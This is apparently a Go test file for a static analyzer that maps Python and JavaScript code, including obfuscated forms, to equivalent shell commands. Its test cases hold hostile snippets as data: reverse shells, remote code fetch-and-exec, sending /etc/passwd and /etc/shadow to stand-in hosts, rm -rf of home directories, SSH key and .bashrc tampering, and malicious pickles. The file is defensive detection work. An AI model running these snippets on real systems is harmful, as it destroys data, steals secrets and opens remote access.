package effects

import (
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
)

// TestPython: what code does is the same as what lines of a shell do, however it is written.
func TestPython(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`import shutil; shutil.rmtree("/ho" + "me")`, `rm -rf /home`},
		{"import socket\ns=socket.socket(); s.connect(('h.example',4444))\nfor l in s.makefile():\n  eval(compile(l,'x','exec'))", `python3 -c "$(nc h.example 4444)"`},
		{"import socketserver\nclass H(socketserver.BaseRequestHandler):\n  def handle(self):\n    exec(self.request.recv(4096))\nsocketserver.TCPServer(('0.0.0.0',99),H).serve_forever()", `python3 -c "$(nc -l -p 8000)"`},
		{"import websockets,os\nasync def m():\n  async with websockets.connect('ws://h.example/x') as ws:\n    async for c in ws:\n      os.system(c)", `$(nc h.example 80)`},
		{"import paramiko,os\nc=paramiko.SSHClient(); c.connect('h.example')\nos.system(c.get_transport().open_session().recv(1024))", `$(nc h.example)`},
		{"import imaplib,os\nm=imaplib.IMAP4_SSL('h.example')\nos.system(m.fetch('1','BODY[TEXT]')[1][0][1].decode())", `$(nc h.example)`},
		{"from os import system as s\ns('id')", `id`},
		{`__import__("os").system("id")`, `id`},
		{`getattr(__import__("o" + "s"), "sys" + "tem")("id")`, `id`},
		{`import importlib; importlib.import_module("os").__dict__["system"]("id")`, `id`},
		{`import os; f = os.system; g = f; g("id")`, `id`},
		{"import os\ndef f(x):\n  y = x + '/b'\n  os.remove(y)\nf('/a')", `rm -f /a/b`},
		{"import os\nfor p in ['/a', '/b']:\n    os.remove(p)\n", "rm -f /a\nrm -f /b"},
		{`import subprocess as sp; sp.run(["rm", "-rf", "/home/user"])`, `rm -rf /home/user`},
		{`import subprocess; subprocess.run("rm -rf /home/user", shell=True)`, `rm -rf /home/user`},
		{`import subprocess; subprocess.run("rm -rf {}".format("/x"), shell=True)`, `rm -rf /x`},
		{`import subprocess; subprocess.run(f"rm -rf {'/x'}", shell=True)`, `rm -rf /x`},
		{`import subprocess; subprocess.run("rm -rf %s" % "/x", shell=True)`, `rm -rf /x`},
		{`import subprocess; subprocess.run(" ".join(["rm", "-rf", "/x"]), shell=True)`, `rm -rf /x`},
		{`open("/home/ada/.bashrc", "a").write("x")`, ": >> /home/ada/.bashrc\nprintf %s x >> /home/ada/.bashrc"},
		{"with open('/home/ada/.bashrc', mode='a') as f:\n\tf.write('x')", ": >> /home/ada/.bashrc\nprintf %s x >> /home/ada/.bashrc"},
		{`from pathlib import Path; Path("/etc/passwd").write_text("x")`, `printf %s x > /etc/passwd`},
		{`from pathlib import Path; (Path.home() / ".ssh" / "authorized_keys").write_text("x")`, `printf %s x > "$HOME"/.ssh/authorized_keys`},
		{`import os; os.remove(os.path.expanduser("~/.bashrc"))`, `rm -f "$HOME"/.bashrc`},
		{`import requests; requests.post("http://e.example", data=open("/etc/passwd").read())`, `curl -s --data "$(cat /etc/passwd)" http://e.example`},
		{`import requests; requests.post("http://e.example", files={"f": open("/etc/passwd", "rb")})`, `curl -s --data-binary @/etc/passwd http://e.example`},
		{"import urllib.request as u\nexec(u.urlopen('http://e.example/x').read())", "curl -s http://e.example/x\npython3 -c \"$(curl -s http://e.example/x)\""},
		{`import base64; exec(base64.b64decode("aW1wb3J0IG9z"))`, `python3 -c 'import os'`},
		{`exec("".join(map(chr, [105, 100])))`, `python3 -c id`},
		{`exec("so tropmi"[::-1])`, `python3 -c 'import os'`},
		{`import os; os.system("".join(chr(c) for c in [105, 100]))`, `id`},
		{"import os\nos.environ['X']\nos.system('echo ' + os.environ['SECRET'])", `echo $SECRET`},
		{"import socket\ns = socket.socket()\ns.connect(('e.example', 9))\ns.send(open('/etc/shadow').read())", `printf %s "$(cat /etc/shadow)" | nc e.example 9`},
		{"import os\nfor r, d, f in os.walk('/home'):\n  for x in f:\n    os.remove(os.path.join(r, x))", `rm -f /home/*`},
		{"class A:\n  def __init__(self):\n    self.p = '/a'\n  def go(self):\n    import shutil\n    shutil.rmtree(self.p)\nA().go()", `rm -rf /a`},
		{"import os, sys\nos.execl('/bin/sh', 'sh', '-c', 'id')", `/bin/sh -c id`},
		{"x = 1 if True else 2; print(x)", ""},
		{"import os\nos.remove(path)", ""},
		{"import os\n(lambda: os.system('id'))()", "id"},
		{"import os\n[os.system(c) for c in ('id', 'who')]", "id\nwho"},
	} {
		e := Of("python", c.code, Given{})
		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
		}
	}
}

// TestJavaScript: the same of JavaScript.
func TestJavaScript(t *testing.T) {
	for _, c := range []struct{ code, want string }{
		{`require("fs").rmSync("/ho" + "me", {recursive: true, force: true})`, `rm -rf /home`},
		{"const {execSync: go} = require('node:child_process'); go(`rm -rf ${'/x'}`)", `rm -rf /x`},
		{`import {exec} from "child_process"; exec("id")`, `id`},
		{`import * as cp from "child_process"; cp["ex" + "ec"]("id")`, `id`},
		{`require("child_" + "process").spawn("rm", ["-rf", "/home/user"])`, `rm -rf /home/user`},
		{`const fs = require("fs"); const f = fs.promises; (async () => { await f.unlink("/etc/passwd") })()`, `rm -f /etc/passwd`},
		{`fetch("http://e.example", {method: "POST", body: require("fs").readFileSync("/etc/passwd")})`, `curl -s -X POST --data "$(cat /etc/passwd)" http://e.example`},
		{`eval(Buffer.from("cmVxdWlyZSgnb3MnKQ==", "base64").toString())`, `node -e 'require('\''os'\'')'`},
		{`eval(atob("cmVxdWlyZSgnb3MnKQ=="))`, `node -e 'require('\''os'\'')'`},
		{`new Function("require('os')")()`, `node -e 'require('\''os'\'')'`},
		{`eval(String.fromCharCode(105, 100))`, `node -e id`},
		{`require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "x")`, `printf %s x >> "$HOME"/.bashrc`},
		{`const p = require("path").join(process.env.HOME, ".ssh"); require("fs").rm(p, {recursive: true}, () => {})`, `rm -rf "$HOME"/.ssh`},
		{`["/a", "/b"].forEach(p => require("fs").unlinkSync(p))`, "rm -f /a\nrm -f /b"},
		{`class A { constructor() { this.p = "/a" } go() { require("fs").unlinkSync(this.p) } } new A().go()`, `rm -f /a`},
		{`let x; (x = require("child_process")).exec("id")`, `id`},
		{`fetch("http://e.example/x").then(r => r.text()).then(t => eval(t))`, "curl -s http://e.example/x\nnode -e \"$(curl -s http://e.example/x)\""},
		{`console.log(1 + 2)`, ""},
	} {
		e := Of("js", c.code, Given{})
		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
		}
	}
}

// TestDark: what calls or runs what nobody can know says so, and honest code does not.
func TestDark(t *testing.T) {
	for code, want := range map[string]bool{
		"import os, sys\ngetattr(os, sys.argv[1])('id')":              true,
		"import sys\n__import__(sys.argv[1]).system('id')":            true,
		"import sys, subprocess\nvars(subprocess)[sys.argv[1]]('id')": true,
		"exec(input())": true,
		"import json, sys\nprint(json.load(sys.stdin)['a'])": false,
		"class A: pass\ngetattr(A(), 'x' + 'y')()":           false,
	} {
		if e := Of("python", code, Given{}); e.Dark != want {
			t.Errorf("%s: %t %q", code, e.Dark, e.Lines)
		}
	}
	if !Of("python", strings.Repeat("x = 1\n", maxCode), Given{}).Dark {
		t.Error("code that is too large is understood")
	}
}

// TestHostileSizes: no code takes more than a bounded time, or ends the program.
func TestHostileSizes(t *testing.T) {
	for _, c := range []struct{ language, code string }{
		{"python", strings.Repeat("(", 30000)},
		{"python", strings.Repeat("f(", 20000) + strings.Repeat(")", 20000)},
		{"python", strings.Repeat("not ", 15000) + "x"},
		{"python", "x" + strings.Repeat("+x", 20000)},
		{"python", strings.Repeat("if x:\n", 10000)},
		{"python", strings.Repeat("[", 9000) + "x" + strings.Repeat("for x in y]", 5000)},
		{"python", "x = 'ab'\n" + strings.Repeat("x = x + x\n", 5000) + "import os\nos.system(x)"},
		{"python", "def f():\n  f(); f(); f(); f()\nf()"},
		{"python", "def f(g):\n  return g(g)\nf(f)"},
		{"python", "x = [1]\n" + strings.Repeat("x = [x, x]\n", 3000) + "import requests\nrequests.post('http://e', data=x)"},
		{"python", strings.Repeat("f'{f\"{x", 4000)},
		{"python", "for a in " + strings.Repeat("[0,0,0,0,0,0,0,0],", 100) + ":\n for b in a:\n  for c in a:\n   for d in a:\n    for e in a: pass"},
		// Each line makes what it takes twice as large, or longer by as much: only bounds end it.
		{"python", "a = [1, 2]\n" + strings.Repeat("a = a + a\n", 60)},
		{"python", "a = [1, 2]\n" + strings.Repeat("a = [*a, *a]\n", 60)},
		{"python", "def f(*a): return a\na = [1, 2]\n" + strings.Repeat("a = a + a\n", 60) + "f(*a, *a)"},
		{"python", "import subprocess as s\nx = s.check_output(['ls'])\n" + strings.Repeat("x = s.check_output([x, x])\n", 60)},
		{"python", "import requests\nx = requests.get('http://a').text\n" + strings.Repeat("x = requests.post(x, data=x).text\n", 60)},
		{"python", "a = []\n" + strings.Repeat("a = ["+strings.Repeat("a,", 100)+"]\n", 8) + "import requests\nrequests.post('http://e', data=a)"},
		{"python", "x = a\n" + strings.Repeat("for i in [1,2,3,4,5,6,7,8]:", 4) + " x = x." + strings.Repeat("a", 4000)},
		{"python", strings.Repeat("from a import *\n", 2100) + "[" + strings.Repeat("b,", 14000) + "]"},
		{"python", "x = 'a' * 60\nx = x * 17\n" + strings.Repeat("list(x)\n", 7000)},
		{"python", "x = range(-9000000000000000000, 9000000000000000000)\ny = range(9000000000000000000, -9000000000000000000, -1)\nz = 'a'[-9999999999:99999999999:99999999]"},
		{"python", "import threading, shutil\na = {}\nthreading.Thread(target=shutil.rmtree, kwargs={**a, **{'b': 1}, 'c': 2})\nmap(int)\nzip()\nreversed()\n''.translate({})\n'%(a)' % 1\n'{' .format()\n'%' % ()\nsum()\nint()\nlen()"},
		{"python", "t = 'b' * 60\nt = t * 60\nx = 'a' * 60\nx = x * 60\n" + strings.Repeat("x = x.translate({97: t, 98: t})\n", 60)},
		{"python", "import re\nx = 'a' * 60\n" + strings.Repeat("x = re.sub('(.*)', '\\1\\1\\1', x)\n", 60)},
		{"js", "a = [1, 2];" + strings.Repeat("a = [...a, ...a];", 60)},
		{"js", strings.Repeat("(", 30000)},
		{"js", strings.Repeat("[", 20000) + strings.Repeat("]", 20000)},
		{"js", strings.Repeat("a=>", 15000) + "a"},
		{"js", strings.Repeat("`${", 10000)},
		{"js", strings.Repeat("!", 50000) + "x"},
		{"js", "x" + strings.Repeat(".x", 20000)},
		{"js", strings.Repeat("{", 30000)},
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		e := Of(c.language, c.code, Given{})
		if runtime.ReadMemStats(&after); after.TotalAlloc-before.TotalAlloc > 512<<20 {
			t.Errorf("%.60q takes %d MB", c.code, (after.TotalAlloc-before.TotalAlloc)>>20)
		}
		size := 0
		for _, line := range e.Lines {
			size += len(line)
		}
		if size > maxScript+maxText {
			t.Errorf("%.40q gives %d bytes", c.code, size)
		}
	}
}

func FuzzOf(f *testing.F) {
	for _, code := range []string{"import os\nos.system('a' + f'{x!r:>{w}}')", "const {a: [b], ...c} = require(`x${y}`); a?.b`c`", "with (open('a') as b, c):\n\tx: int = 1; del x", "try:\n  pass\nexcept* A as b: lambda *a, **b: 0", "class A { static { } #p = 1; get x() {} }"} {
		f.Add(code, true)
		f.Add(code, false)
	}
	f.Fuzz(func(t *testing.T, code string, python bool) {
		language := map[bool]string{true: "python", false: "js"}[python]
		e := Of(language, code, Given{})
		if len(e.Lines) > maxLines || len(e.Reads) > maxLines {
			t.Errorf("%d lines, %d files", len(e.Lines), len(e.Reads))
		}
	})
}

// FuzzPickles: whatever bytes a program makes objects of, reading them ends, and does not fail.
func FuzzPickles(f *testing.F) {
	for _, pickle := range []string{
		"cos\nsystem\n(S'id'\ntR.", "\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.", "(lp0\nS'a'\naI1\na.", "(dS'a'\nI1\ns.", "K", "h", "q", "U", "X\xff\xff\xff\xff", "\x8d\xff", "M", "(i", "\x80", "\x92R\x81o",
	} {
		f.Add(pickle)
	}
	f.Fuzz(func(t *testing.T, pickle string) {
		var bytes strings.Builder
		for i := range len(pickle) {
			fmt.Fprintf(&bytes, "\\x%02x", pickle[i])
		}
		if e := Of("python", "import pickle\npickle.loads(b'"+bytes.String()+"')", Given{}); len(e.Lines) > maxLines {
			t.Errorf("%d lines", len(e.Lines))
		}
	})
}

// TestEvaluates: what stands in a file is run where a program evaluates it, or makes objects of it that may do
// anything; what is parsed as data is not.
func TestEvaluates(t *testing.T) {
	for _, test := range []struct{ language, source, want string }{
		{"js", `import fs from "fs"; const g = fs.readFileSync("d/x.bin"); (new Function("require", g.toString("utf8")))(require)`, "d/x.bin"},
		{"js", `eval(require('fs').readFileSync('d/x.bin', 'utf8'))`, "d/x.bin"},
		{"js", `const vm = require('vm'), fs = require('fs'); vm.runInThisContext(fs.readFileSync('d/x.bin', 'utf8').trim())`, "d/x.bin"},
		{"js", `const fs = require('fs/promises'); async function f() { const s = await fs.readFile('d/x.bin', 'utf8'); new Function(s)() } f()`, "d/x.bin"},
		{"js", `const a = JSON.parse(require('fs').readFileSync('d/x.bin', 'utf8')); new Function(a.code)()`, "d/x.bin"},
		{"js", `const a = JSON.parse(require('fs').readFileSync('d/x.bin', 'utf8')); setTimeout(() => console.log(a), 10); new Promise(r => setTimeout(r, 9))`, ""},
		{"python", "exec(open('d/x.bin').read())", "d/x.bin"},
		{"python", "from pathlib import Path\nexec(compile(Path('d/x.bin').read_text(), 'x', 'exec'))", "d/x.bin"},
		{"python", "import pickle\nwith open('d/x.bin', 'rb') as f:\n    pickle.load(f)", "d/x.bin"},
		{"python", "import yaml\nyaml.load(open('d/x.bin'), Loader=yaml.Loader)", "d/x.bin"},
		{"python", "import yaml\nyaml.safe_load(open('d/x.bin'))", ""},
		{"python", "for line in open('d/x.bin'):\n    eval(line)", "d/x.bin"},
		{"python", "import json\njson.load(open('d/x.bin'))", ""},
		{"python", "import csv\nfor row in csv.reader(open('d/x.bin')):\n    print(row)", ""},
	} {
		got := strings.Join(slices.Compact(Of(test.language, test.source, Given{}).Evaluates), " ")
		if got != test.want {
			t.Errorf("%s: evaluates %q, want %q", test.source, got, test.want)
		}
	}
}
